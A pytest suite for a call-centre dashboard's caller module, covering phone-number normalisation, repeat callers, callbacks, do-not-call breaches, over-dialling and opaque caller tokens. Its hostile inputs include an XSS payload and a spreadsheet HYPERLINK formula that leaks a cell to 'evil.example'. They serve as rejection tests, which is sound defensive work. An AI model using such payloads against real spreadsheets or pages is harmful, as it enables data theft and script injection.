"""Callers from calls: numbers grouped however they are written, repeat callers, callbacks, do-not-call
breaches in the order things happened, numbers dialled too often, and tokens that hide the number."""

from __future__ import annotations

import pandas as pd
import pytest

from carecycle_dash.data.callers import (
    REMEMBERED,
    CallerDirectory,
    caller_figures,
    caller_history,
    caller_label,
    caller_table,
    caller_token,
    dialled_too_often,
    do_not_call_breaches,
    normalise_number,
    normalise_numbers,
)
from carecycle_dash.data.frame import build_frame
from tests.factories import MISSING, hostile_calls, make_call

NUMBER = "+15550001111"


def frame(*calls: dict) -> pd.DataFrame:
    return build_frame(list(calls)).df


@pytest.mark.parametrize(
    "written",
    ["+1 555 000 1111", "(555) 000-1111", "5550001111", "+15550001111", "1-555-000-1111", " 555.000.1111 "],
)
def test_every_way_of_writing_a_number_is_one_caller(written: str) -> None:
    assert normalise_number(written) == NUMBER


@pytest.mark.parametrize(
    "written",
    [
        "",
        "   ",
        "anonymous",
        "<svg onload=alert(1)>",
        '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        "\u202e0010555551+",
        "555 01a0 111",
        "123",
        "+1 555 000 1111 ext 2",
        "1" * 40,
    ],
)
def test_missing_blank_and_hostile_text_is_no_caller(written: str) -> None:
    assert normalise_number(written) is None


def test_international_numbers_keep_their_country_code() -> None:
    assert normalise_number("+44 20 7946 0018") == "+442079460018"


def test_missing_caller_ids_give_missing_keys_in_place() -> None:
    keys = normalise_numbers(pd.Series(["(555) 000-1111", None, "x", "+1 555 000 1111"], index=[5, 6, 7, 8]))
    assert list(keys.index) == [5, 6, 7, 8]
    assert keys[5] == keys[8] == NUMBER
    assert keys.isna().tolist() == [False, True, True, False]


def test_frame_has_a_caller_column_even_for_hostile_calls() -> None:
    df = build_frame(hostile_calls()).df
    assert "caller" in df.columns
    assert df["caller"].dropna().str.fullmatch(r"\+?\d{7,15}").all()


def test_caller_label_writes_north_american_numbers_readably() -> None:
    assert caller_label(NUMBER) == "+1 555-000-1111"
    assert caller_label("+442079460018") == "+442079460018"


def test_tokens_are_opaque_stable_and_resolve_back() -> None:
    secret = b"s" * 32
    token = caller_token(NUMBER, secret)
    assert token.startswith("c_") and len(token) == 18
    assert "5550001111" not in token
    assert caller_token(NUMBER, secret) == token
    assert caller_token(NUMBER, b"t" * 32) != token
    directory = CallerDirectory(pd.Series([NUMBER, None, "+15550002222"]), secret)
    assert directory.resolve(token) == NUMBER
    assert directory.resolve("c_0000000000000000") is None
    assert directory.resolve("+1 (555) 000-1111") == NUMBER
    assert directory.resolve("<script>") is None


def test_caller_table_counts_directions_and_takes_the_last_disposition_in_time() -> None:
    df = frame(
        make_call(
            callerId="+1 555 000 1111",
            createdAt="2026-01-02T10:00:00Z",
            disposition="Voicemail",
            direction="outbound",
            successEvaluation="false",
        ),
        make_call(
            callerId="(555) 000-1111",
            createdAt="2026-01-01T10:00:00Z",
            disposition="Qualified",
            direction="inbound",
            successEvaluation="true",
        ),
        make_call(callerId="5550001111", createdAt=None, disposition="Bad Contact", direction="outbound"),
        make_call(callerId="+15550002222", createdAt="2026-01-03T10:00:00Z", successEvaluation="false"),
        make_call(callerId=None),
    )
    table = caller_table(df)
    assert list(table.index) == [NUMBER, "+15550002222"]
    row = table.loc[NUMBER]
    assert (row["calls"], row["inbound"], row["outbound"]) == (3, 1, 2)
    assert row["first"] == pd.Timestamp("2026-01-01T10:00:00Z")
    assert row["last"] == pd.Timestamp("2026-01-02T10:00:00Z")
    assert row["lastDisposition"] == "Voicemail"
    assert bool(row["anySuccess"]) is True
    assert bool(table.loc["+15550002222", "anySuccess"]) is False


def test_caller_table_of_no_calls_is_empty() -> None:
    assert caller_table(frame(make_call(callerId=None))).empty


def test_figures_count_repeat_callers_and_callbacks_within_48_hours() -> None:
    df = frame(
        # unsuccessful connected call, called back 47 h later
        make_call(callerId=NUMBER, createdAt="2026-01-01T00:00:00Z", successEvaluation="false"),
        make_call(callerId=NUMBER, createdAt="2026-01-02T23:00:00Z", successEvaluation="true"),
        # unsuccessful connected call, next call 49 h later: no callback
        make_call(callerId="+15550002222", createdAt="2026-01-01T00:00:00Z", successEvaluation="false"),
        make_call(callerId="+15550002222", createdAt="2026-01-03T01:00:00Z", successEvaluation="true"),
        # unsuccessful but not connected: not counted
        make_call(callerId="+15550003333", disposition="Voicemail", durationMs=0, successEvaluation="false"),
        # a call without a time is a call, never a callback
        make_call(callerId="+15550003333", createdAt=None),
        make_call(callerId="+15550004444"),
    )
    figures = caller_figures(df)
    assert figures.callers == 4
    assert figures.repeat_callers == 3
    assert figures.repeat_share == pytest.approx(0.75)
    assert figures.unsuccessful_connected == 2
    assert figures.called_back == 1
    assert figures.callback_share == pytest.approx(0.5)


def test_figures_of_no_callers_have_no_shares() -> None:
    figures = caller_figures(frame(make_call(callerId=None)))
    assert (figures.callers, figures.repeat_share, figures.callback_share) == (0, None, None)


def test_outbound_call_after_a_do_not_call_request_is_a_breach() -> None:
    df = frame(
        make_call(
            callerId="(555) 000-1111", createdAt="2026-01-01T10:00:00Z", disposition="Do Not Call", direction="outbound"
        ),
        make_call(
            callerId="+1 555 000 1111", createdAt="2026-01-05T10:00:00Z", disposition="Voicemail", direction="outbound"
        ),
        make_call(callerId=NUMBER, createdAt="2026-01-06T10:00:00Z", direction="inbound"),
    )
    breaches = do_not_call_breaches(df)
    assert len(breaches) == 1
    breach = breaches.iloc[0]
    assert breach["caller"] == NUMBER
    assert breach["requestedAt"] == pd.Timestamp("2026-01-01T10:00:00Z")
    assert (breach["requestRow"], breach["row"]) == (0, 1)
    assert breach["id"] == df["id"].iloc[1]


def test_calls_before_the_request_or_without_time_are_no_breach() -> None:
    df = frame(
        make_call(callerId=NUMBER, createdAt="2026-01-01T10:00:00Z", direction="outbound"),
        make_call(
            callerId=NUMBER, createdAt="2026-01-02T10:00:00Z", disposition=" do not contact ", direction="outbound"
        ),
        make_call(callerId=NUMBER, createdAt="2026-01-02T10:00:00Z", direction="outbound"),
        make_call(callerId=NUMBER, createdAt=None, direction="outbound"),
        make_call(callerId=NUMBER, createdAt=MISSING, direction="outbound"),
    )
    assert do_not_call_breaches(df).empty


def test_the_first_request_counts_and_a_second_request_call_is_itself_a_breach() -> None:
    df = frame(
        make_call(callerId=NUMBER, createdAt="2026-01-03T10:00:00Z", disposition="Do Not Call", direction="outbound"),
        make_call(callerId=NUMBER, createdAt="2026-01-01T10:00:00Z", disposition="Do Not Call", direction="inbound"),
    )
    breaches = do_not_call_breaches(df)
    assert breaches["requestedAt"].tolist() == [pd.Timestamp("2026-01-01T10:00:00Z")]
    assert breaches["row"].tolist() == [0]


def test_no_request_no_breaches() -> None:
    assert do_not_call_breaches(frame(make_call(), make_call())).empty


def test_more_than_n_outbound_calls_in_seven_days_is_too_often() -> None:
    days = ["01", "02", "03", "07"]  # four calls within 7 days
    calls = [make_call(callerId=NUMBER, createdAt=f"2026-01-{d}T10:00:00Z", direction="outbound") for d in days]
    spread = ["01", "09", "17", "25"]  # four calls, never two in a week
    calls += [make_call(callerId="+15550002222", createdAt=f"2026-01-{d}T10:00:00Z") for d in spread]
    calls += [
        make_call(callerId="+15550003333", createdAt=f"2026-01-0{d}T10:00:00Z", direction="inbound")
        for d in range(1, 9)
    ]
    df = frame(*calls)
    too_often = dialled_too_often(df, 3)
    assert too_often["caller"].tolist() == [NUMBER]
    assert too_often["most"].tolist() == [4]
    assert too_often["outbound"].tolist() == [4]
    assert too_often["windowStart"].iloc[0] == pd.Timestamp("2026-01-01T10:00:00Z")
    assert dialled_too_often(df, 4).empty
    assert set(dialled_too_often(df, 0)["caller"]) == {NUMBER, "+15550002222"}


def test_a_window_is_seven_days_not_more() -> None:
    days = ["01T10:00:00", "03T10:00:00", "05T10:00:00", "08T10:00:00"]  # first and last exactly 7 days apart
    df = frame(*[make_call(callerId=NUMBER, createdAt=f"2026-01-{d}Z") for d in days])
    assert dialled_too_often(df, 3).empty


def test_history_is_in_time_order_with_untimed_calls_last() -> None:
    df = frame(
        make_call(callerId=NUMBER, createdAt=None),
        make_call(callerId=NUMBER, createdAt="2026-01-02T10:00:00Z"),
        make_call(callerId="+15550002222"),
        make_call(callerId="555-000-1111", createdAt="2026-01-01T10:00:00Z"),
    )
    assert list(caller_history(df, NUMBER).index) == [3, 1, 0]
    assert caller_history(df, "+19999999999").empty


def test_a_caller_whose_calls_have_no_time_has_no_first_or_last_call() -> None:
    df = frame(
        make_call(callerId="+15550002222", createdAt=None, disposition="Voicemail"),
        make_call(callerId=NUMBER, createdAt="2026-01-01T10:00:00Z"),
        make_call(callerId="+15550002222", createdAt="bad", disposition="Qualified"),
    )
    row = caller_table(df).loc["+15550002222"]
    assert row["calls"] == 2
    assert pd.isna(row["first"]) and pd.isna(row["last"])
    assert row["lastDisposition"] == "Qualified"


def test_the_directory_remembers_results_but_only_the_most_recent_keys() -> None:
    directory = CallerDirectory(pd.Series([NUMBER]), b"s" * 32)
    computed: list[int] = []

    def compute(n: int) -> int:
        computed.append(n)
        return n

    assert directory.remember("a", lambda: compute(1)) == 1
    assert directory.remember("a", lambda: compute(2)) == 1
    for key in range(REMEMBERED):
        directory.remember(key, lambda key=key: compute(key))
    assert directory.remember("a", lambda: compute(3)) == 3  # forgotten: computed again
    assert computed == [1, *range(REMEMBERED), 3]
